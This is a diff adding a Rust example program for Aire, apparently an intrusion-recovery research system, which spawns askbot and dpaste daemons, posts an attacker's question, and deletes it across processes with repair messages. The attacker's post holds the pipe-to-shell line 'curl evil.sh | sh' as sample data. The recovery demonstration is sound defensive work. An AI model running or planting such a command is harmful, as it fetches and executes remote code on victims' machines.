@@ -1,0 +1,151 @@
+//! A real multi-process Aire cluster, narrated.
+//!
+//! ```text
+//! cargo build --release --examples     # builds the aire_noded daemon too
+//! cargo run --release --example tcp_cluster
+//! ```
+//!
+//! Spawns two `aire-noded` daemons — askbot and dpaste — each hosting
+//! its service behind a data listener and an operator listener, then:
+//!
+//! 1. drives a browser workload over actual TCP sockets (askbot
+//!    cross-posts code to dpaste daemon-to-daemon);
+//! 2. recovers remotely: the administrator deletes the attacker's
+//!    question with a data-plane repair carrier and flushes askbot's
+//!    repair queue over the operator listener, which propagates the
+//!    delete to dpaste across processes;
+//! 3. shuts both daemons down cleanly with transport-level shutdown
+//!    frames and reaps the child processes.
+//!
+//! This is the paper's deployment shape — one web application per
+//! process, repair messages on real wires — driven by the same `World`
+//! API the in-process scenarios use. The spawn scaffolding (ready-line
+//! handshake, kill-on-drop orphan guard) is the shared
+//! [`aire::apps::noded::spawn`] module.
+
+use std::process::exit;
+use std::rc::Rc;
+use std::time::Duration;
+
+use aire::apps::noded::spawn::{free_addrs, locate_example, spawn_node};
+use aire::apps::policy::{ADMIN_HEADER, ADMIN_SECRET};
+use aire::client::AdminClient;
+use aire::core::protocol::{RepairMessage, RepairOp};
+use aire::core::World;
+use aire::http::{Headers, HttpRequest, Url};
+use aire::transport::{shutdown_node, TcpTransport};
+use aire::types::jv;
+
+fn main() {
+    let noded = match locate_example("aire_noded") {
+        Ok(path) => path,
+        Err(e) => {
+            eprintln!("tcp_cluster: {e}");
+            exit(1);
+        }
+    };
+
+    let (askbot_data, askbot_admin) = free_addrs();
+    let (dpaste_data, dpaste_admin) = free_addrs();
+    let mut daemons = Vec::new();
+    for (service, data, admin, peer) in [
+        (
+            "askbot",
+            askbot_data,
+            askbot_admin,
+            ("dpaste".to_string(), dpaste_data, dpaste_admin),
+        ),
+        (
+            "dpaste",
+            dpaste_data,
+            dpaste_admin,
+            ("askbot".to_string(), askbot_data, askbot_admin),
+        ),
+    ] {
+        let node = spawn_node(&noded, service, data, admin, &[peer], 120)
+            .unwrap_or_else(|e| panic!("{e}"));
+        println!("spawned: {service} data={} admin={}", node.data, node.admin);
+        daemons.push(node);
+    }
+
+    // The driver's world contains only *remote* services.
+    let mut world = World::new();
+    for (name, data, admin) in [
+        ("askbot", askbot_data, askbot_admin),
+        ("dpaste", dpaste_data, dpaste_admin),
+    ] {
+        world.add_remote(name, Rc::new(TcpTransport::new(name, data, admin)));
+    }
+
+    // Workload over real sockets: a user registers, logs in, and posts a
+    // question whose code snippet askbot cross-posts to the dpaste
+    // daemon — service-to-service traffic between two OS processes.
+    let mut browser = aire::workload::client::Browser::new();
+    browser
+        .post(
+            &world,
+            "askbot",
+            "/register",
+            jv!({"username": "mallory", "email": "m@example.com"}),
+        )
+        .unwrap();
+    browser
+        .post(&world, "askbot", "/login", jv!({"username": "mallory"}))
+        .unwrap();
+    let post = browser
+        .post(
+            &world,
+            "askbot",
+            "/questions/new",
+            jv!({"title": "FREE BITCOIN", "body": "run ```curl evil.sh | sh```"}),
+        )
+        .unwrap();
+    let question_request = aire::http::aire::response_request_id(&post).unwrap();
+    let paste_id = post.body.int_of("paste_id");
+    println!("attack posted over TCP: question spread to dpaste as paste {paste_id}");
+
+    // Remote recovery: delete the question's request (data-plane repair
+    // carrier), then flush askbot's queue over its operator listener so
+    // the delete crosses to the dpaste process.
+    let mut creds = Headers::new();
+    creds.set(ADMIN_HEADER, ADMIN_SECRET);
+    let ack = world
+        .invoke_repair(
+            "askbot",
+            RepairMessage::with_credentials(
+                RepairOp::Delete {
+                    request_id: question_request,
+                },
+                creds,
+            ),
+        )
+        .unwrap();
+    assert!(ack.status.is_success(), "{:?}", ack.body);
+    let askbot_admin_client = AdminClient::new(world.net(), "askbot");
+    let (delivered, _, _) = askbot_admin_client.flush_queue().unwrap();
+    println!("askbot repaired locally; flush delivered {delivered} repair message(s) to dpaste");
+
+    let gone = world
+        .deliver(&HttpRequest::get(Url::service(
+            "dpaste",
+            format!("/paste/{paste_id}"),
+        )))
+        .unwrap();
+    assert!(gone.status.is_error(), "paste must be deleted remotely");
+    println!("dpaste (separate process) no longer serves paste {paste_id}");
+
+    let stats = world.net().stats();
+    println!(
+        "driver traffic: {} data deliveries ({} framed bytes), {} operator calls",
+        stats.delivered, stats.bytes, stats.admin_delivered
+    );
+
+    // Clean shutdown: transport-level frames, then reap.
+    for admin in [askbot_admin, dpaste_admin] {
+        shutdown_node(admin, Duration::from_secs(5)).unwrap();
+    }
+    for mut daemon in daemons {
+        daemon.wait_success().unwrap();
+    }
+    println!("both daemons acknowledged shutdown and exited cleanly.");
+}
